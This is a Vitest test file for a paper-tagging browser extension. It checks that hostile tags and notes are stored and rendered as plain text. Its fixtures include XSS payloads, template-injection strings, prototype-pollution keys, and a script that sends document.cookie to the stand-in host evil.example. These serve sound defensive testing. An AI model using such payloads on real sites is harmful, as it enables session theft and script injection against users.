// @vitest-environment happy-dom
/**
 * Tags and notes are the user's own words, and they may hold anything: markup, script, template
 * syntax, a right-to-left override, the names JavaScript gives to prototypes. Through the messages
 * they are stored as the exact text typed (only trimmed, with whitespace runs collapsed in tags),
 * come back as that text from every message and from a backup, and the overlay's controls render them
 * as text. The same check in Chromium, on a real page: test/browser/faults.test.ts.
 */
import { h, render } from 'preact';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CardControls, type CardControlsProps } from '../../../components/CardControls';
import { createHandlers } from '../../../lib/background/handlers';
import { handleMessage } from '../../../lib/background/server';
import { deleteDb } from '../../../lib/db/schema';
import type { MessageName, ReplyOf, RequestOf } from '../../../lib/messages/protocol';
import type { PaperState } from '../../../lib/model/paper';
import { idOf, makeRecord } from '../../fixtures/db/records';
import { t } from '../../support/dom';

/** Tags a hostile page or a careless paste could produce; each is at most 64 characters. */
const HOSTILE_TAGS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "javascript:alert('x')",
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal placeholder is the hostile text.
  '${alert(1)}',
  '&lt;b&gt;entity&lt;/b&gt;',
  '\u202egnp.exe',
  '__proto__',
  'constructor',
];
const HOSTILE_NOTE =
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n<img src=x onerror=alert(1)>\n  indented\t**markdown** [link](javascript:alert(1))';

let handlers: ReturnType<typeof createHandlers>;
async function send<K extends MessageName>(type: K, data: RequestOf<K>): Promise<ReplyOf<K>> {
  // A JSON round trip, as on the wire.
  const answer = await handleMessage(handlers, JSON.parse(JSON.stringify({ type, data })));
  if (!answer.ok) throw new Error(answer.error);
  return answer.result as ReplyOf<K>;
}

const ID = idOf(1);
const OTHER = idOf(2);

beforeEach(async () => {
  await deleteDb();
  handlers = createHandlers();
  await send('observePapers', {
    papers: [makeRecord(1), makeRecord(2)],
    pageUrl: 'https://huggingface.co/papers',
  });
});

describe('tags and notes with markup, through the messages', () => {
  it('setTags stores each tag as the exact text, and every message gives that text back', async () => {
    const { state } = await send('setTags', { id: ID, tags: HOSTILE_TAGS });
    expect(state.tags).toEqual(HOSTILE_TAGS);
    expect((await send('getStates', { ids: [ID] })).states[0]?.tags).toEqual(HOSTILE_TAGS);
    expect((await send('listTags', {})).tags.map((t) => t.tag).sort()).toEqual([...HOSTILE_TAGS].sort());
    for (const tag of HOSTILE_TAGS) {
      const { papers, total } = await send('listPapers', { view: { kind: 'tag', tag } });
      expect([total, papers[0]?.id, papers[0]?.tags], tag).toEqual([1, ID, HOSTILE_TAGS]);
    }
    expect(({} as Record<string, unknown>).onerror).toBeUndefined();
  });

  it('addTagsMany keeps hostile tags as text too, next to the tags a paper has', async () => {
    await send('setTags', { id: ID, tags: ['mine'] });
    const { states } = await send('addTagsMany', { ids: [ID, OTHER], tags: HOSTILE_TAGS.slice(0, 3) });
    expect(states.map((s: PaperState) => s.tags)).toEqual([
      ['mine', ...HOSTILE_TAGS.slice(0, 3)],
      HOSTILE_TAGS.slice(0, 3),
    ]);
  });

  it('setNote stores the note exactly as written, line breaks and all', async () => {
    await send('setNote', { id: ID, note: HOSTILE_NOTE });
    const { papers } = await send('listPapers', { view: { kind: 'all' } });
    expect(papers.find((p) => p.id === ID)?.note).toBe(HOSTILE_NOTE);
  });

  it('a backup carries them as text, and importing it back gives the same text (tags named __proto__ included)', async () => {
    await send('setTags', { id: ID, tags: HOSTILE_TAGS });
    await send('setNote', { id: ID, note: HOSTILE_NOTE });
    const { backup } = await send('exportBackup', {});
    const text = JSON.stringify(backup);
    await send('eraseAll', {});
    expect(await send('importBackup', { backup: text, mode: 'replace' })).toEqual({ papers: 2, pages: 1 });
    const { papers } = await send('listPapers', { view: { kind: 'tag', tag: '<script>alert(1)</script>' } });
    expect(papers.map((p) => [p.id, p.tags, p.note])).toEqual([[ID, HOSTILE_TAGS, HOSTILE_NOTE]]);
    expect(({} as Record<string, unknown>).onerror).toBeUndefined();
  });
});

describe("the overlay's controls render hostile tags as text", () => {
  let container: HTMLElement;
  beforeEach(() => {
    container = document.createElement('div');
    document.body.append(container);
  });
  afterEach(() => {
    render(null, container);
    container.remove();
  });

  function props(overrides: Partial<CardControlsProps>): CardControlsProps {
    return {
      id: ID,
      state: { id: ID, state: 'seen', saved: true, tags: HOSTILE_TAGS },
      arxivUrl: `https://arxiv.org/abs/${ID}`,
      pdfUrl: `https://arxiv.org/pdf/${ID}`,
      tagsOpen: false,
      knownTags: [],
      t,
      onToggleSaved: () => undefined,
      onToggleRead: () => undefined,
      onOpenCode: () => undefined,
      onTagsOpenChange: () => undefined,
      onTagsChange: () => undefined,
      ...overrides,
    };
  }

  /** The elements the markup in the tags would create if it were parsed as HTML. */
  const injected = () => container.querySelectorAll('img, script, svg, iframe, b');

  it('in the list of tags on the card', () => {
    render(h(CardControls, props({})), container);
    const items = [...container.querySelectorAll('ul.tags > li')].map((li) => li.textContent);
    expect(items).toEqual(HOSTILE_TAGS);
    expect(injected()).toHaveLength(0);
  });

  it('in the open tag editor: its chips, their Remove buttons and the suggestions of known tags', () => {
    render(
      h(
        CardControls,
        props({
          tagsOpen: true,
          state: { id: ID, state: 'seen', saved: true, tags: HOSTILE_TAGS.slice(0, 5) },
          knownTags: HOSTILE_TAGS,
        }),
      ),
      container,
    );
    const chips = [...container.querySelectorAll('.tag-editor .chips > li')];
    expect(chips.map((li) => li.firstChild?.textContent)).toEqual(HOSTILE_TAGS.slice(0, 5));
    expect(chips.map((li) => li.querySelector('button')?.getAttribute('aria-label'))).toEqual(
      HOSTILE_TAGS.slice(0, 5).map((tag) => `Remove tag ${tag}`),
    );
    const options = [...container.querySelectorAll('datalist option')].map((o) => o.getAttribute('value'));
    expect(options).toEqual(HOSTILE_TAGS.slice(5, 13));
    expect(injected()).toHaveLength(0);
  });

  it('and an error message with markup from the background is text too', () => {
    render(h(CardControls, props({ error: 'Storage is full: <img src=x onerror=alert(1)>' })), container);
    expect(container.querySelector('[role="status"]')?.textContent).toBe(
      'Storage is full: <img src=x onerror=alert(1)>',
    );
    expect(injected()).toHaveLength(0);
  });
});
